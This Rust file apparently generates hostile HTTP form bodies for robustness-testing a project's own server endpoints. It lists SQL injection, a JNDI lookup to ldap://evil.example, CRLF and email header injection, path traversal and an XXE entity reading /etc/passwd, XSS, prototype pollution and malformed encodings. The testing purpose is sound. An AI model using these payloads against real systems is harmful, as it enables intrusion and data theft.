//! The generator of hostile bodies. The fields are those of our own forms, so that they are read as far as can be.

use axum::body::Bytes;

/// One body, with the headers that go with it.
pub struct Hostile {
    pub what: String,
    pub headers: Vec<(&'static str, &'static str)>,
    pub body: Bytes,
}

const FORM: (&str, &str) = ("content-type", "application/x-www-form-urlencoded");

/// Every field of every form.
const FIELDS: &[&str] = &[
    "slug",
    "user",
    "invitation",
    "session",
    "secret",
    "email",
    "password",
    "new_password",
    "first_name",
    "role",
    "to",
    "version",
    "addresses",
    "terms",
    "theme",
    "after",
    "next",
    "time_zone",
];

/// What stands in a field, as it travels.
const VALUES: &[&str] = &[
    "",
    "%00",
    "null",
    "undefined",
    "true",
    "-1",
    "9223372036854775808",
    "-9223372036854775809",
    "1e309",
    "NaN",
    "0x10",
    "%EF%BB%BFx",
    "%ED%A0%80",
    "%ED%B0%80%ED%A0%80",
    "%FF%FE%FD",
    "%C0%AF",
    "%",
    "%4",
    "%GG",
    "%u0041",
    "%E2%80%AE",
    "%0d%0aSet-Cookie:%20sid=1",
    "%0aBcc:%20all@evil.example",
    "'%20OR%20'1'='1",
    "'%3BDROP%20TABLE%20users--",
    "%7B%7B7*7%7D%7D",
    "%24%7Bjndi:ldap://evil.example%7D",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "00000000-0000-0000-0000-000000000000",
    "urn:uuid:00000000-0000-7000-8000-000000000000",
    "%7B00000000-0000-7000-8000-000000000000%7D",
    "owner%00",
    "Owner",
    "[]",
    "%7B%7D",
    "+",
    "%F0%9F%90%87",
];

/// At least two hundred for each server function.
pub fn bodies(name: &str) -> Vec<Hostile> {
    let all = |value: &str| FIELDS.iter().map(|field| format!("{field}={value}")).collect::<Vec<_>>().join("&");
    let mut found = Vec::new();
    let mut form = |what: String, body: String| found.push(Hostile { what, headers: vec![FORM], body: body.into() });
    for value in VALUES {
        form(format!("every field {value}"), all(value));
        form(format!("twice {value}"), format!("{}&{}", all("1"), all(value)));
    }
    for field in FIELDS {
        for (what, shape) in SHAPES {
            form(format!("{what} of {field}"), shape.replace('@', field));
        }
    }
    form("nothing".into(), String::new());
    form("a field of 60 kB".into(), all("a").replacen("=a", &format!("={}", "a".repeat(60_000)), 1));
    form("each field long".into(), all(&"é".repeat(1_000)));
    form("10,000 pairs".into(), "a=1&".repeat(10_000));
    form("10,000 ampersands".into(), "&".repeat(10_000));
    form("10,000 brackets".into(), format!("slug{}=1", "[a]".repeat(10_000)));
    form("cut in a percent".into(), format!("{}%", all("a")));
    form(format!("a field named {name}"), format!("{name}=1&__path=/do/{name}&__err=eyJ4Ijp9"));
    found.extend(foreign_kinds(&all("1")));
    found
}

/// Nesting, arrays and repetitions of one field.
const SHAPES: &[(&str, &str)] = &[
    ("an array", "@[]=a&@[]=b"),
    ("an index", "@[0]=a&@[1]=b"),
    ("a huge index", "@[99999999999999999999]=a"),
    ("a negative index", "@[-1]=a"),
    ("nesting", "@[a][b][c]=d"),
    ("a prototype", "@[__proto__][admin]=1&@[constructor]=1"),
    ("an open bracket", "@[=a"),
    ("a closing bracket", "@]=a&]@[=b"),
    ("value and array", "@=a&@[]=b&@[c]=d"),
    ("no equals sign", "@"),
    ("three equals signs", "@===a"),
    ("two of it", "@=a&@=b"),
    ("another spelling", "%40@=a&@%00=b&%20@%20=c"),
];

/// What is no form at all.
fn foreign_kinds(fields: &str) -> Vec<Hostile> {
    let json = r#"{"slug":{"$ne":null},"user":[1,2],"email":["a@evil.example","b@evil.example"],"version":1e400}"#;
    let deep = "[".repeat(20_000);
    let multipart = "--x\r\nContent-Disposition: form-data; name=\"slug\"\r\n\r\nacme\r\n--x--\r\n";
    let texts: Vec<(&'static str, Vec<(&'static str, &'static str)>, Bytes)> = vec![
        ("JSON", vec![("content-type", "application/json")], json.into()),
        ("deep JSON", vec![("content-type", "application/json")], deep.clone().into()),
        ("JSON as a form", vec![FORM], json.into()),
        ("deep JSON as a form", vec![FORM], deep.into()),
        ("no kind", vec![], fields.to_owned().into()),
        ("text", vec![("content-type", "text/plain")], fields.to_owned().into()),
        (
            "XML",
            vec![("content-type", "text/xml")],
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>".into(),
        ),
        ("multipart without a boundary", vec![("content-type", "multipart/form-data")], multipart.into()),
        (
            "multipart with an empty boundary",
            vec![("content-type", "multipart/form-data; boundary=")],
            multipart.into(),
        ),
        ("multipart", vec![("content-type", "multipart/form-data; boundary=x")], multipart.into()),
        ("cut multipart", vec![("content-type", "multipart/form-data; boundary=x")], "--x\r\nConte".into()),
        ("CBOR", vec![("content-type", "application/cbor")], Bytes::from_static(b"\xbf\x64slug\x9f\xff")),
        ("CBOR as a form", vec![FORM], Bytes::from_static(b"\xbf\x64slug\x9f\xff\x5b\xff\xff\xff\xff\xff\xff\xff\xff")),
        ("gzip that is none", vec![FORM, ("content-encoding", "gzip")], fields.to_owned().into()),
        ("a gzip header", vec![FORM, ("content-encoding", "gzip")], Bytes::from_static(b"\x1f\x8b\x08\x00\x00\x00")),
        ("an unknown encoding", vec![FORM, ("content-encoding", "zip,br,x")], fields.to_owned().into()),
        (
            "UTF-16",
            vec![("content-type", "application/x-www-form-urlencoded; charset=utf-16")],
            Bytes::from_static(b"\xff\xfes\0l\0"),
        ),
        ("bytes", vec![FORM], (0..=255).collect::<Vec<u8>>().into()),
        ("zeros", vec![FORM], vec![0; 1_000].into()),
        ("two kinds", vec![FORM, ("content-type", "text/plain")], fields.to_owned().into()),
        ("a strange Accept", vec![FORM, ("accept", "text/html;q=é,*/*;;")], fields.to_owned().into()),
        (
            "a page wanted",
            vec![FORM, ("accept", "text/html"), ("referer", "https://evil.example/")],
            fields.to_owned().into(),
        ),
        (
            "a strange Referer",
            vec![FORM, ("accept", "text/html"), ("referer", "\t%00 not a url")],
            fields.to_owned().into(),
        ),
        ("a false length", vec![FORM, ("content-length", "3")], fields.to_owned().into()),
        ("a length that is none", vec![FORM, ("content-length", "three")], fields.to_owned().into()),
        ("an upgrade", vec![FORM, ("upgrade", "websocket"), ("connection", "upgrade")], fields.to_owned().into()),
        ("another method", vec![FORM, ("x-http-method-override", "DELETE")], fields.to_owned().into()),
    ];
    texts.into_iter().map(|(what, headers, body)| Hostile { what: what.to_owned(), headers, body }).collect()
}
